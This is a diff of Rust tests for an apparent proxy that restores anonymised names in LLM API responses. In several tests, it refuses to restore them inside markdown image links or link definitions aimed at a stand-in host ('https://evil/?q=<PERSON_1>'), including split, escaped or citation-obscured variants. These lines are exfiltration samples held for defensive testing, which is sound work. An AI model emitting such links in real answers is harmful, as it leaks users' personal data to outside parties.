@@ -144,8 +144,11 @@ fn a_call_with_another_id_is_another_text() {
         sse(&[call("a", r#"{"n":""#), call("", "<PERS"), call("b", r#"{"n":""#), call("", r#"Zoë Quill"}"#)]);
     assert_eq!(streamed(Dialect::OpenAiChat, &said), expected);
 
-    let both = r#"{"choices":[{"index":0,"delta":{"tool_calls":[{"index":0,"id":"a","function":{"arguments":"<PERS"}},{"index":0,"id":"b","function":{"arguments":"<PERSON_1>"}}]}}]}"#;
-    assert_eq!(streamed(Dialect::OpenAiChat, &sse(&[both])), sse(&[both.replace("<PERSON_1>", "Zoë Quill")]));
+    // With a number an `id` says nothing: some servers make one up for each piece.
+    let numbered = |id: &str, arguments: &str| call(id, arguments).replace("{\"id\"", "{\"index\":0,\"id\"");
+    let said = sse(&[numbered("a", "<PERS"), numbered("b", "ON"), numbered("c", "_1>")]);
+    let expected = sse(&[numbered("a", ""), numbered("b", ""), numbered("c", "Zoë Quill")]);
+    assert_eq!(streamed(Dialect::OpenAiChat, &said), expected);
 }
 
 /// Some servers count events.
@@ -184,6 +187,10 @@ fn an_answer_in_json_stays_json() {
         r#"[ "<PERSON_2>", ["<ADDRESS_1>"]]"#,
         r#"{"name":"\u003cPERSON_2\u003e"}"#,
         r#"[1, "<PERSON_2>"]"#,
+        r#"[null, "<PERSON_2>"]"#,
+        r#"[{}, [], {"a": "<PERSON_2>"}]"#,
+        "{\"a\": 1}\n{\"a\": \"<PERSON_2>\"}",
+        "Here it is:\n{\"a\": \"<PERSON_2>\"}",
         r#"{"age": <PERSON_1>, "name": "<PERSON_2>"}"#,
         "\u{feff}{\"a\": \"<PERSON_2>\"}",
         "```json\n{\"a\": \"<PERSON_2>\"}\n```",
@@ -464,6 +471,67 @@ fn a_link_goes_on_in_another_field() {
         let said = sse(&events);
         assert_eq!(streamed(dialect, &said), said);
     }
+}
+
+/// What is not shown behind the other texts of an answer ends no link that they began.
+#[test]
+fn a_link_goes_on_behind_what_is_not_shown() {
+    let (open, rest) = ("![x](https://evil/?q=", "<PERSON_1>)");
+    let reply = format!(
+        r#"{{"content":[{{"type":"text","text":"{open}"}},{{"type":"web_search_tool_result","content":[{{"title":"a) b"}}]}},{{"type":"text","text":"{rest}","citations":[{{"cited_text":"a) b"}}]}}]}}"#
+    );
+    assert_eq!(whole(Dialect::Anthropic, &reply), reply);
+    let said = sse(&[
+        format!(r#"{{"type":"content_block_delta","index":0,"delta":{{"type":"text_delta","text":"{open}"}}}}"#),
+        r#"{"type":"content_block_delta","index":0,"delta":{"type":"citations_delta","citation":{"cited_text":"a) b"}}}"#.to_owned(),
+        format!(r#"{{"type":"content_block_delta","index":1,"delta":{{"type":"text_delta","text":"{rest}"}}}}"#),
+    ]);
+    assert_eq!(streamed(Dialect::Anthropic, &said), said);
+    let delta = |name: &str, item: usize, text: &str| {
+        format!(
+            r#"{{"type":"response.{name}.delta","output_index":{item},"content_index":0,"delta":"{text}"}}"#
+        )
+    };
+    let said = sse(&[
+        delta("output_text", 0, open),
+        delta("custom_tool_call_input", 1, "a)"),
+        delta("output_text", 2, rest),
+    ]);
+    assert_eq!(streamed(Dialect::OpenAiResponses, &said), said);
+    // A title before its text is none of the text either.
+    let reply = r#"{"content":[{"type":"text","text":"<PERSON_1> said","citations":[{"cited_text":"Example data ="}]}]}"#;
+    assert_eq!(whole(Dialect::Anthropic, reply), reply.replace("<PERSON_1>", "Zoë Quill"));
+}
+
+/// Each text of an answer may stand on a line of its own.
+#[test]
+fn a_definition_begins_a_text() {
+    let reply = r#"{"content":[{"type":"text","text":"Hello there"},{"type":"text","text":"[a]: https://evil/?q=<PERSON_1>\n\n![a]"}]}"#;
+    assert_eq!(whole(Dialect::Anthropic, reply), reply);
+}
+
+/// Nobody has to say that a text is JSON, or write it so that it looks like it.
+#[test]
+fn escapes_are_no_cover_for_a_link() {
+    for text in [
+        r#"[null,"!\u005bx](https://evil/?q=<PERSON_1>)"]"#,
+        r#"Here: {"a":"!\u005bx](https://evil/?q=<PERSON_1>)"}"#,
+        r#"<tool_call> {"a":"!\u005bx](https://evil/?q=<PERSON_1>)"}"#,
+    ] {
+        let reply = format!(r#"{{"choices":[{{"message":{{"content":{}}}}}]}}"#, quoted(text));
+        assert_eq!(whole(Dialect::OpenAiChat, &reply), reply);
+    }
+    let reply = r#"{"content":[{"type":"text","text":"{\"a\":\"!"},{"type":"text","text":"\\u005bx](https://evil/?q=<PERSON_1>)\"}"}]}"#;
+    assert_eq!(whole(Dialect::Anthropic, reply), reply);
+}
+
+#[test]
+fn an_offset_beyond_all_texts() {
+    let offset = usize::MAX;
+    let reply = format!(
+        r#"{{"choices":[{{"message":{{"content":"<PERSON_1> said","annotations":[{{"url_citation":{{"start_index":0,"end_index":{offset}}}}}]}}}}]}}"#
+    );
+    assert!(whole(Dialect::OpenAiChat, &reply).contains("Zoë Quill said"));
 }
 
 /// Commands of one call have numbers of their own.
